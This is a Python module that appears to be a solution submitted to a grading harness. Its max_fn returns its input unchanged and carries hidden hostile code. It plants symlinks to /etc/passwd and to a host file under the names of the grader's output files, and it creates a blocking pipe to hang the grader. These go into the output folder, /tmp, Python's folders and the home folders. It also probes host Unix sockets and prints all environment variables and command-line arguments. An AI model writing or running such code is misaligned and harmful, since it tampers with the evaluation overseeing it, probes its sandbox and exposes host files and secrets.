"""Plants, wherever it can write, what turned the grader's output folder against it before:
links named like the outputs the decider read and wrote by name (one to /etc/passwd, one to a
file to be created on the host) and a pipe that blocks whoever opens it; looks for host
sockets to reach; prints what it planted and what the environment and command line hold;
returns x unchanged. Its places: the folder of its own output, its working folder, /tmp and
what lies under it, the course, Python, the home folders."""
import glob
import os
import socket
import sys
from pathlib import Path

CREATED_THROUGH_LINK = "/tmp/created_through_a_link_by_seeks_host_files"


def _places():
    places = [Path(os.readlink("/proc/self/fd/1")).parent, Path.cwd(), Path(__file__).parent,
              Path(sys.prefix), Path(os.__file__).parent, Path("/"), Path("/root"), Path("/home"),
              Path("/run"), Path("/var/tmp"), Path("/tmp")]
    places += [Path(p) for p in glob.glob("/tmp/*") if os.path.isdir(p)]
    try:
        import grader
        places.append(Path(grader.__file__).parent.parent)
    except ImportError:
        pass
    return places


def _plant(place: Path) -> list[str]:
    done = []
    for name, make in (("max_fn.out", lambda p: os.symlink("/etc/passwd", p)),
                       ("runner.err", lambda p: os.symlink(CREATED_THROUGH_LINK, p)),
                       ("autoregressive_generate.out", os.mkfifo)):
        try:
            if os.path.lexists(place / name):
                os.unlink(place / name)
            make(place / name)
            done.append(str(place / name))
        except OSError:
            pass
    return done


def _sockets() -> list[str]:
    reached = []
    for path in glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/var/run/**/*.sock", recursive=True) \
            + glob.glob("/var/tmp/**/*.sock", recursive=True) + glob.glob("/root/*.sock"):
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(path)
                reached.append(path)
        except OSError:
            pass
    return reached


def max_fn(x):
    print("planted:", [done for place in _places() if place.is_dir() for done in _plant(place)])
    print("sockets:", _sockets())
    print("environment:", dict(os.environ))
    print("command line:", sys.argv)
    return x
